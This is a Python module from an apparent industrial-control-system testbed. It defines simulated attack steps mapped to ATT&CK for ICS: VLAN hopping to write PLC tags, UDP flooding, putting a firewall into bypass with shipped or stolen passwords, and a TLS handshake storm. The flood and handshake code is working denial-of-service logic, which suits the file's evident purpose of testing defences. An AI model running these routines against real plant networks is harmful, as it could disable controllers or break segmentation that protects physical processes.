"""Attacks on what keeps networks apart: switches, firewalls, and the room for traffic and handshakes.

ATT&CK for ICS T0814, T0816, T0855 and T0866.
"""

from __future__ import annotations

import asyncio
import ssl
from collections.abc import Iterator
from contextlib import suppress
from typing import Annotated, Literal

from pydantic import Field

from devices.boundary import SHIPPED, manage
from scenarios.attack import Attack, Seconds, Step
from scenarios.steps.commands import TagWrites, lacks_assets, lacks_tags, modbus_write
from testbed import site as sites
from testbed.site import Name, Site

#: Floods send in bursts so many seconds apart, as tools do.
BURST = 0.02
#: UDP port that floods are sent to; nobody serves it (RFC 863, discard).
DISCARD = 9


def lacks_conduit(site: Site, conduit: str) -> Iterator[str]:
    """A sentence about a conduit that ``site`` does not have."""
    if conduit not in site.conduits:
        yield f"site {site.name!r} has no conduit {conduit!r}"


class VlanHop(TagWrites):
    """Make the port of a shared switch a trunk, take an address in zone ``into``, and write tags of a PLC from there.

    No firewall is on the way: a switch joins what it was told to keep apart.
    """

    action: Literal["vlan_hop"]
    into: Name

    def lacks(self, site: Site) -> Iterator[str]:
        if self.into not in site.zones:
            yield f"site {site.name!r} has no zone {self.into!r}"
        yield from super().lacks(site)

    async def carry_out(self, attack: Attack) -> None:
        network = attack.world.network
        if not any(switch.trunk(attack.host, self.into) for switch in attack.world.switches.values()):
            attack.note(self, "refused", target=self.into, reason="the port becomes no trunk to this zone")
            return
        leg = network.host(
            f"{attack.host.name}_{self.into}", self.into, network.zones[self.into].free_address()
        )
        attack.note(self, "hopped", target=self.into)
        await leg.spawn(modbus_write(attack, self), "write from another zone")


class FloodNetwork(Step):
    """T0814: send ``rate`` UDP datagrams a second of ``size`` bytes to an asset that has not asked for them."""

    action: Literal["flood_network"]
    target: Name
    rate: Seconds
    size: Annotated[int, Field(ge=1, le=65_507)] = 32
    lasting: Seconds

    def lacks(self, site: Site) -> Iterator[str]:
        yield from lacks_assets(site, self.target)

    async def carry_out(self, attack: Attack) -> None:
        loop = attack.world.loop
        address = attack.world.site.assets[self.target].address
        transport, _ = await loop.create_datagram_endpoint(
            asyncio.DatagramProtocol, remote_addr=(address, DISCARD)
        )
        assert isinstance(transport, asyncio.DatagramTransport)
        payload = bytes(self.size)
        begun, sent = loop.time(), 0
        rate = self.rate * attack.strength
        attack.note(self, "flooding", target=self.target, rate=rate, size=self.size)
        while (passed := loop.time() - begun) < self.lasting:
            for _ in range(int(passed * rate) - sent):
                transport.sendto(payload)
                sent += 1
            await asyncio.sleep(BURST)
        transport.close()
        attack.note(self, "sent", target=self.target, datagrams=sent)


class SwitchFirewall(Step):
    """Tell a conduit's firewall through its management to let everything pass, with what credentials there are.

    ``shipped`` is the password that the make is delivered with, ``stolen`` the one in force.
    """

    action: Literal["switch_firewall"]
    manager: Name
    conduit: Name
    credentials: Literal["shipped", "stolen"] = "shipped"

    def lacks(self, site: Site) -> Iterator[str]:
        yield from lacks_conduit(site, self.conduit)
        if not isinstance(site.assets.get(self.manager), sites.FirewallManager):
            yield f"site {site.name!r} has no firewall manager {self.manager!r}"

    async def carry_out(self, attack: Attack) -> None:
        manager = attack.world.firewall_managers[self.manager]
        stolen = manager.passwords[SHIPPED]
        password = stolen if self.credentials == "stolen" else SHIPPED
        request = {"user": SHIPPED, "password": password, "conduit": self.conduit, "do": "bypass"}
        try:
            answer = await manage(manager.host.address, manager.port, request)
        except OSError as error:
            attack.note(self, "failed", target=self.conduit, reason=type(error).__name__)
            return
        if answer.get("done"):
            attack.note(self, "done", target=self.conduit)
        else:
            attack.note(self, "refused", target=self.conduit, reason=str(answer.get("refused")))


class HandshakeStorm(Step):
    """T0814: begin ``rate`` TLS handshakes a second with a PLC and finish none, so that it computes for nothing."""

    action: Literal["handshake_storm"]
    plc: Name
    rate: Seconds
    lasting: Seconds

    def lacks(self, site: Site) -> Iterator[str]:
        yield from lacks_tags(site, self.plc, ())

    async def carry_out(self, attack: Attack) -> None:
        plc = attack.world.plcs[self.plc]
        address, port = plc.host.address, plc.seams.port
        loop, hello = attack.world.loop, client_hello()
        end = loop.time() + self.lasting
        served = lost = 0

        async def one() -> None:
            nonlocal served, lost
            try:
                async with asyncio.timeout(2.0):
                    reader, writer = await asyncio.open_connection(address, port)
                    writer.write(hello)
                    answered = bool(await reader.read(1))
                    writer.transport.abort()
            except OSError:
                answered = False
            served, lost = served + answered, lost + (not answered)

        rate = self.rate * attack.strength
        attack.note(self, "storming", target=self.plc, rate=rate)
        running: list[asyncio.Task[None]] = []
        while loop.time() < end:
            running = [task for task in running if not task.done()]
            running.append(asyncio.ensure_future(one()))
            await asyncio.sleep(1 / rate)
        await asyncio.gather(*running)
        attack.note(self, "done" if served > lost else "refused", target=self.plc, served=served, lost=lost)


def client_hello() -> bytes:
    """The first message of a TLS handshake by somebody without a certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):  # it waits for an answer now
        context.wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    return outgoing.read()
